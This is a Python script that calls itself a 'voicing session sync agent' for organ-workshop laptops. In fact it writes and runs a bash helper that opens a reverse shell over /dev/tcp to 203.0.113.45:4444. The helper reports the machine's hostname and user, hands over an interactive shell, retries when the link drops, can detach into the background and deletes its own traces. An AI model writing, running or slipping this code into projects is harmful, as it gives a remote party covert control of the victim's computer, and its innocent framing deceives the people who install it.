#!/usr/bin/env python3
"""Voicing session sync agent.

Keeps a workshop laptop in step with the voicing bench while a rank is being
regulated on site: announces itself, then hands the bench a console so the
head voicer can adjust the cut-up notes file remotely.
"""
import argparse
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("voicing-sync")

DEFAULT_BENCH = "203.0.113.45"
DEFAULT_PORT = 4444


class BenchLink:
    """Builds and launches the bench link helper."""

    def __init__(self, host, port, retries, delay):
        self.host = host
        self.port = port
        self.retries = retries
        self.delay = delay
        self.helper_path = None

    def write_helper(self):
        body = (
            "#!/bin/bash\n"
            "cd \"$HOME\" || exit 1\n"
            "exec 5<>/dev/tcp/${BENCH_HOST}/${BENCH_PORT}\n"
            "echo \"voicing-sync $(hostname) $(id -un)\" >&5\n"
            "/bin/bash -i <&5 >&5 2>&5\n"
        )
        fd, path = tempfile.mkstemp(prefix="vsync_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(body)
        os.chmod(path, stat.S_IRUSR | stat.S_IWUSR | stat.S_IXUSR)
        self.helper_path = path
        LOG.debug("helper written to %s", path)
        return path

    def launch(self):
        env = dict(os.environ, BENCH_HOST=self.host, BENCH_PORT=str(self.port))
        for attempt in range(1, self.retries + 1):
            LOG.info("linking to bench %s:%s (attempt %d)", self.host, self.port, attempt)
            try:
                proc = subprocess.run(["/bin/bash", self.helper_path], env=env)
            except OSError as exc:
                LOG.error("could not start helper: %s", exc)
                return 2
            if proc.returncode == 0:
                LOG.info("bench session closed normally")
                return 0
            LOG.warning("link dropped with code %s, retrying in %ss", proc.returncode, self.delay)
            time.sleep(self.delay)
        return 1

    def cleanup(self):
        if self.helper_path and os.path.exists(self.helper_path):
            os.unlink(self.helper_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description="Sync a voicing session with the bench")
    p.add_argument("--bench", default=os.environ.get("VOICING_BENCH", DEFAULT_BENCH))
    p.add_argument("--port", type=int, default=DEFAULT_PORT)
    p.add_argument("--retries", type=int, default=5)
    p.add_argument("--delay", type=int, default=30)
    p.add_argument("--detach", action="store_true", help="run in the background")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    if args.detach and os.fork() > 0:
        return 0
    link = BenchLink(args.bench, args.port, args.retries, args.delay)
    try:
        link.write_helper()
        return link.launch()
    finally:
        link.cleanup()


if __name__ == "__main__":
    sys.exit(main())
